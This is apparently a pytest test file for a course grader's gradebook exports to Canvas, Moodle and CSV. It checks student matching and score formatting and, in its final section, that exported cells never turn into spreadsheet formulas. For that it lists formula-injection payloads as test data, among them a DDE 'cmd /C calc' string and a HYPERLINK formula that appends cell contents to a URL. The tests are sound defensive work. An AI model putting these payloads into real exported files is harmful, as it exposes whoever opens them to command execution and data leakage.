"""Gradebooks, read back by readers of their own: as Canvas does, as Moodle does, and as spreadsheets cut them."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reproducible import the_same_everywhere  # noqa: F401  an autouse fixture
from students import told

from grader.errors import Refused
from grader.gradebook.export import (
    CSV,
    GRADESCOPE,
    canvas_gradebook,
    csv_gradebook,
    line_of,
    moodle_gradebook,
    read_canvas_columns,
)
from grader.gradebook.gradedwork import Grade
from grader.gradebook.in_force import Override
from grader.gradebook.matching import unknown_to
from grader.gradebook.roster import RosterStudent, read_roster
from grader.gradebook.spreadsheet import cell, csv_table, first_cell, plain, text_cell
from grader.submissions.work import HandedIn

CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Day 1 (991),Day 2 (992),Day 2 again (993),Current Score\n"
    ",,,,,Manual Posting,,,\n"
    "    Points Possible,,,,,100,100,50,(read only)\n"
    '"Lovelace, Ada",67890,u01,al123,Section A,90,,,90\n'
    '"Lee, Kim",111,u02,kim@uni.edu,"Section A and Section B",,,,\n'
    '"Lee, Kim",222,u03,kim2@uni.edu,Section B,EX,,,\n'
    '"=HYPERLINK(""http://x"")",333,+4,@login,-1+1,,,,\n'
    '"Student, Test",999,,,Section A,,,,\n'
)
EXCUSE = Override("day2", "excuse", "ill", "Grace", "leekim-222")


def row(student, score, most, *, checks=None, excused=False, **cells):
    """A student's line of the table, with these cells."""
    grade = Grade(
        "k",
        score,
        most,
        score,
        checks or {},
        (),
        None,
        EXCUSE if excused else None,
        HandedIn(student=student),
    )
    return {**line_of(grade.with_report(told({}))), **cells}


ROWS = [
    row("lovelaceada-67890", 87.5, 100, checks={"swap_rule": 20, "accumulate": 7.5}, late="1 day late"),
    row("leekim-111", 0, 100, checks={"swap_rule": 0, "accumulate": 0}),
    row("leekim-222", None, 100, excused=True, note="ill"),
    row("HYPERLINKhttpx-333", None, 100),
    row("gone", 100, 100),
]


@pytest.fixture
def canvas(tmp_path):
    """Roster and columns of Canvas's own export."""
    path = tmp_path / "export.csv"
    path.write_text(CANVAS, encoding="utf-8")
    students = [s if s.ids["ID"] != "333" else changed(s) for s in read_roster(path)]
    return students, read_canvas_columns(path)


def changed(student):
    """The student whose name is a formula, under a key that the tests can write."""
    return RosterStudent("HYPERLINKhttpx-333", name=student.name, ids=student.ids)


# --- Readers


def read_csv(text):
    """Our own: by column names."""
    return {line["student"]: line for line in csv.DictReader(io.StringIO(text, newline=""))}


def read_as_canvas(text):
    """As its importer: students by ID, assignments by the number in brackets, points possible in a line of its own."""
    header, *lines = csv.reader(io.StringIO(text, newline=""))
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert header[2:5] == ["SIS User ID", "SIS Login ID", "Section"]
    points, grades = {}, {}
    assignments = {name: place for place, name in enumerate(header) if place > 4}
    for line in lines:
        assert len(line) == len(header)
        if "Points Possible" in line[0]:
            points = {name: float(line[place].replace(",", ".")) for name, place in assignments.items()}
        else:
            grades[int(line[1])] = {name: line[place].strip() for name, place in assignments.items()}
    return points, grades


def read_as_moodle(text, known):
    """As its importer: one user that it does not know, and nothing at all is imported."""
    header, *lines = csv.reader(io.StringIO(text, newline=""))
    assert header[0] in {"Email address", "ID number"}
    for line in lines:
        assert line[0] in known
        float(line[1])
    return {line[0]: (float(line[1]), line[2]) for line in lines}


def cut_naively(text):
    """Every beginning of a cell that some spreadsheet could see, quotes or not."""
    for line in re.split(r"[\r\n]+", text):
        for separator in ",;\t|":
            for part in line.split(separator):
                yield part
                yield (
                    part.strip("\"' \u00a0\u3000") if not part.strip(' "\u00a0\u3000').startswith("'") else ""
                )


def formulas(text):
    """The beginnings that a spreadsheet would calculate, but for plain numbers."""
    found = []
    for part in cut_naively(text):
        bare = part.strip().strip('"').strip()
        sign = unicodedata.normalize("NFKC", bare[:1])[:1]
        if sign and sign in "=+-@" and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", bare):
            found.append(bare)
    return found


# --- Our own


@pytest.mark.parametrize("columns", [CSV, GRADESCOPE])
def test_every_column_has_a_value(columns):
    """Of the roster or of the line; a name that neither has would be an empty column."""
    known = {*row("ada", 1, 2), "name", "email"}
    assert [of for _, of in columns if of not in known] == []


def test_a_csv(canvas, snapshot):
    """One line a student, with each check's points; who has no result has a line too."""
    made = csv_gradebook(ROWS, canvas[0])

    lines = read_csv(made.text)
    assert list(lines) == sorted(lines)
    assert lines["lovelaceada-67890"] == {
        "student": "lovelaceada-67890",
        "name": "Lovelace, Ada",
        "email": "",
        "score": "87.5",
        "max_score": "100",
        "excused": "",
        "late": "1 day late",
        "state": "handed in",
        "too_late": "",
        "note": "",
        "swap_rule": "20",
        "accumulate": "7.5",
    }
    assert (lines["leekim-222"]["score"], lines["leekim-222"]["excused"]) == ("", "yes")
    assert lines["leekim-111"]["score"] == "0"
    assert (lines["gone"]["score"], lines["studenttest-999"]["score"]) == ("100", "")
    assert made.notes == snapshot


def test_a_csv_without_a_roster():
    """There is nobody to miss, and no name is known; a check named like a column is told from it."""
    made = csv_gradebook([row("ada", 1.005, 3, checks={"add": 1.0, "score": 0.0})])

    head = "student,name,email,score,max_score,excused,late,state,too_late,note,add,check score"
    assert made.text == f"{head}\r\nada,,,1,3,,,handed in,,,1,0\r\n"
    assert made.notes == []


def test_who_has_no_result_stands_in_order():
    """Not below all others."""
    made = csv_gradebook(
        [row("bob", 1, 2)], [RosterStudent("cy"), RosterStudent("bob"), RosterStudent("ada")]
    )
    assert list(read_csv(made.text)) == ["ada", "bob", "cy"]


def test_checks_that_not_everybody_has():
    """A check that was added is empty for whoever was not graded by it."""
    lines = read_csv(csv_gradebook([row("a", 1, 2, checks={"x": 1}), row("b", 1, 2, checks={"y": 1})]).text)

    assert [(line["x"], line["y"]) for line in lines.values()] == [("1", ""), ("", "1")]


# --- Canvas


def test_canvas_takes_it(canvas, snapshot):
    """Its own column, its own ids; who cannot be graded is left out, and reported."""
    made = canvas_gradebook("Day 2", ROWS, *canvas)

    points, grades = read_as_canvas(made.text)
    assert points == {"Day 2 (992)": 100}
    assert grades == {67890: {"Day 2 (992)": "87.5"}, 111: {"Day 2 (992)": "0"}, 222: {"Day 2 (992)": "EX"}}
    assert made.notes == snapshot


def test_canvas_line_by_line(canvas, snapshot):
    """As its guide shows it."""
    made = canvas_gradebook("Day 2", ROWS[:1], *canvas)

    assert made.text == snapshot


@pytest.mark.parametrize("title", ["Day 2 (992)", "day 2", " Day 2 "])
def test_canvas_column_is_found(canvas, title):
    """By its whole name, or without its number."""
    assert "Day 2 (992)" in read_as_canvas(canvas_gradebook(title, ROWS, *canvas).text)[0]


def test_canvas_column_by_another_name(canvas):
    """The assignment is `day2` here, and has a title."""
    made = canvas_gradebook("The backward pass", ROWS, *canvas, also=["day2"])

    assert "Day 2 (992)" in read_as_canvas(made.text)[0]


def test_a_new_column_in_canvas(canvas, snapshot):
    """The instructor is informed before Canvas asks."""
    made = canvas_gradebook("Day 3", ROWS[:2], *canvas)

    assert read_as_canvas(made.text)[0] == {"Day 3": 100}
    assert made.notes[0] == snapshot


def test_points_that_differ_in_canvas(canvas, snapshot):
    """Its own stay as they are, and nothing is scaled."""
    made = canvas_gradebook("Day 2 again", ROWS[:2], *canvas)

    assert read_as_canvas(made.text)[0] == {"Day 2 again (993)": 50}
    assert made.notes[0] == snapshot


@pytest.mark.parametrize("theirs", ["100", "100.0", "100.00", "100,00", ""])
def test_points_that_are_the_same_in_canvas(canvas, theirs):
    """However it writes them."""
    made = canvas_gradebook("Day 2", ROWS[:1], canvas[0], {"Day 2 (992)": theirs})

    assert not any("points" in note for note in made.notes)
    assert read_as_canvas(made.text)[0] == {"Day 2 (992)": 100}


def test_a_column_that_canvas_calculates(canvas, snapshot):
    """The instructor is told before the import leaves it out."""
    made = canvas_gradebook("Day 2", ROWS[:1], canvas[0], {"Day 2 (992)": "(read only)"})
    assert made.notes[0] == snapshot
    assert "Day 2 (992)" in made.text.splitlines()[0]


def test_canvas_with_two_of_one_name(canvas, snapshot):
    """The grader does not choose between them."""
    with pytest.raises(Refused) as caught:
        canvas_gradebook("Day 2", ROWS, canvas[0], {"Day 2 (1)": "", "Day 2 (2)": ""})

    assert str(caught.value) == snapshot


def test_a_roster_that_is_not_canvass():
    """Without its ids it would make new students."""
    with pytest.raises(Refused, match="this is not a roster of Canvas"):
        canvas_gradebook("Day 2", ROWS, [RosterStudent("ada")], {})


def test_canvas_columns(tmp_path):
    """A column without a number in brackets is no assignment."""
    path = tmp_path / "x.csv"
    path.write_text(CANVAS, encoding="utf-8")

    assert read_canvas_columns(path) == {
        "Day 1 (991)": "100",
        "Day 2 (992)": "100",
        "Day 2 again (993)": "50",
    }


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (row("al123", 1, 2), {67890}),
        (row("AL123", 1, 2), {67890}),
        (row("u01", 1, 2), {67890}),
        (row("kim@uni.edu", 1, 2), {111}),
        (row("Kim Lee", 1, 2), set()),
        (row("Lee, Kim", 1, 2), set()),
        (row("67890", 1, 2), set()),
    ],
)
def test_who_is_who(canvas, line, expected):
    """By the key, a login or an address; never by a name, which two may have."""
    made = canvas_gradebook("Day 2", [line], *canvas)

    assert set(read_as_canvas(made.text)[1]) == expected
    assert any(
        note.startswith(f"{line['student']} has a result but is not in the roster") for note in made.notes
    ) == (not expected)


def test_a_class_that_nobody_knows(canvas):
    """An empty file would look as if all were well; what they are called here and there is reported."""
    rows = [row("ada", 1, 100), row("bob", 2, 100)]
    told = r"have ada, .* has lovelaceada-67890 \(SIS Login ID al123, SIS User ID u01\)\. Students are matched by login"
    for make in (
        lambda: canvas_gradebook("Day 2", rows, *canvas),
        lambda: moodle_gradebook("Day 2", rows, canvas[0]),
    ):
        with pytest.raises(Refused, match=told):
            make()


def test_what_many_share_is_told_once(snapshot):
    """A class of 900 has no 900 lines."""
    rows = [row("ada", 1, 2), *(row(f"s{number:02}", 1, 2) for number in range(12))]

    made = moodle_gradebook("Day 2", rows, MOODLE)

    assert made.notes == snapshot


def test_two_results_of_one_student(canvas, snapshot):
    """Neither is chosen."""
    made = canvas_gradebook("Day 2", [row("al123", 1, 100), row("lovelaceada-67890", 2, 100)], *canvas)

    assert read_as_canvas(made.text)[1] == {}
    assert made.notes[0] == snapshot


# --- Moodle

MOODLE = [
    RosterStudent("ada", name="Ada", email="Ada@uni.edu", ids={"ID number": "1"}),
    RosterStudent("bob", name="Bob", email="bob@uni.edu"),
    RosterStudent("eve", email="eve@uni.edu"),
]
KIM = RosterStudent("kim", email="kim@uni.edu")


def test_moodle_takes_it(snapshot):
    """By address, with words beside the grade."""
    rows = [
        row("ada", 87.5, 100, feedback="1 day late: -10 %. see me"),
        row("bob", None, 100),
        row("eve", None, 100, excused=True),
        row("gone", 5, 100),
        row("kim", 7, 100, feedback="The checks gave 5. In time, ill"),
    ]

    made = moodle_gradebook("Day 2", rows, [*MOODLE, RosterStudent("new", email="new@uni.edu"), KIM])

    assert made.text.splitlines()[0] == snapshot
    assert read_as_moodle(made.text, {"Ada@uni.edu", "kim@uni.edu"}) == snapshot
    assert made.notes == snapshot


def test_moodle_by_number(snapshot):
    """If a student has no address, the ID number is used."""
    roster = [
        RosterStudent("ada", ids={"ID number": "007"}),
        RosterStudent("bob", ids={"ID number": "8"}),
        RosterStudent("eve"),
    ]
    rows = [row(student.student, 1, 2) for student in roster]

    made = moodle_gradebook("Day 2", rows, roster)

    assert read_as_moodle(made.text, {"007", "8"}) == {"007": (1, ""), "8": (1, "")}
    assert made.notes == snapshot


@pytest.mark.parametrize("email", ["=1+1@uni.edu", "+ada@uni.edu", "@x@uni.edu", "-@uni.edu", "a;=1@uni.edu"])
def test_an_address_that_is_a_formula(email, snapshot):
    """It cannot be written as it is, and changed it would stop the whole import."""
    made = moodle_gradebook(
        "Day 2",
        [row("ada", 1, 2), row("bob", 1, 2)],
        [RosterStudent("ada", email=email), MOODLE[1]],
    )

    assert list(read_as_moodle(made.text, {"bob@uni.edu"})) == ["bob@uni.edu"]
    assert made.notes[0] == snapshot


def test_more_points_than_moodle_takes(snapshot):
    """The instructor is informed before it refuses."""
    made = moodle_gradebook("Day 2", [row("ada", 120, 120)], MOODLE[:1])

    assert made.notes == snapshot
    assert moodle_gradebook("Day 2", [row("ada", 100, 100)], MOODLE[:1]).notes == []


def test_who_is_in_no_line_of_a_roster():
    """A student is known by the key or by another identifier."""
    assert unknown_to(["ada", "kim@uni.edu", "eve"], [RosterStudent("ada"), KIM]) == ["eve"]


# --- Formulas

HOSTILE = [
    '=HYPERLINK("http://x?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "⩵1", "−1+1",
    "x;=1+1", "x\t=1+1", "x,=1+1", 'x;"=1+1"', 'x";=1+1', "x; \u00a0=1+1", "x\r\n=1+1", "x|=1", '"=1+1', ";;=1", ",@x",
    '",=1', "x;＝1", "\x00=1", "\x1b]=1", "\u202e=1", "\ue000=1", "a\x0b=1", "x\u2028=1", "%0A=1", "-", "=", "@", "+",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(text):
    """In whichever cell, and whatever a spreadsheet takes for a separator."""
    rows = [row("ada", 1, 2, late=text, note=text, feedback=text, checks={text: -1.5})]
    canvas = [RosterStudent("ada", name=text, ids={"ID": "1", "SIS Login ID": text, "Section": text})]

    made = [
        csv_gradebook(
            rows, [RosterStudent("ada", name=text, email=text), RosterStudent("bob", name=text, email=text)]
        ),
        canvas_gradebook(text, rows, canvas, {}),
        canvas_gradebook(text, rows, canvas, {f"{text} (5)": text}),
        moodle_gradebook(text, rows, [RosterStudent("ada", email="a@b.c")]),
    ]

    for one in made:
        assert formulas(one.text) == []
        lines = list(csv.reader(io.StringIO(one.text, newline=""), strict=True))
        assert len({len(line) for line in lines}) == 1
        assert all("\n" not in part and "\t" not in part for line in lines for part in line)


def test_a_number_at_the_beginning_of_a_line():
    """A spreadsheet that cuts at `;` reads on behind it, so the sign gets an apostrophe there."""
    assert csv_table([["+1", "2+cmd|' /C calc'!A0"]]).startswith("'+1,")
    assert csv_table([[-1.0, "x"]]) == "-1,x\r\n"


@given(
    st.lists(
        st.text(alphabet="=+-@＝－;,|\t\r\n\"' 1ab\u00a0\u200b\ufeff", max_size=12), min_size=1, max_size=4
    )
)
@settings(max_examples=500, deadline=None, database=None, derandomize=True)
def test_any_texts_side_by_side(texts):
    """The end of one cell never makes the next one a formula, and each can be read back."""
    text = csv_table([texts, texts])

    assert formulas(text) == []
    expected = [first_cell(texts[0]), *map(cell, texts[1:])]
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == [expected] * 2


@pytest.mark.parametrize("text", [*HOSTILE, "'=1", "''=1", " '=1", "ada", "'tis", "-5"])
def test_a_text_comes_back_from_a_table(text):
    """An apostrophe before its sign is taken off again, and no other."""
    assert plain(text_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1", "'=1"),
        ("'=1", "''=1"),
        ('x; "=1', "x; \"'=1"),
        ("'-5", "''-5"),
        ("-5", "-5"),
        ("'tis", "'tis"),
        ("x;'y", "x;'y"),
    ],
)
def test_a_text_gets_one_apostrophe(text, written):
    """Only before a sign that begins a formula."""
    assert text_cell(text) == written


@pytest.mark.parametrize("text", ["-5", "+5", "0815", "1.5", "-1,5"])
def test_numbers_stay_numbers(text):
    """They calculate nothing."""
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (0, "0"),
        (-0.001, "0"),
        (100, "100"),
        (87.5, "87.5"),
        (1 / 3, "0.33"),
        (1e6, "1000000"),
        (-2.5, "-2.5"),
        (None, ""),
    ],
)
def test_numbers(value, written):
    """With two places at most, and never as 1e+06."""
    assert cell(value) == written


def test_ordinary_texts_stay_as_they_are():
    """Apostrophes stand only where they must."""
    for text in (
        "Lovelace, Ada",
        "O'Neil-Smith",
        "a = b",
        "x@y.z",
        "1 day late: -10 %",
        'called "Ada"',
        "李明",
    ):
        assert cell(text) == text


def test_a_long_text_is_cut():
    """A spreadsheet's cell has an end."""
    assert len(cell("=" * 100_000)) < 32_767
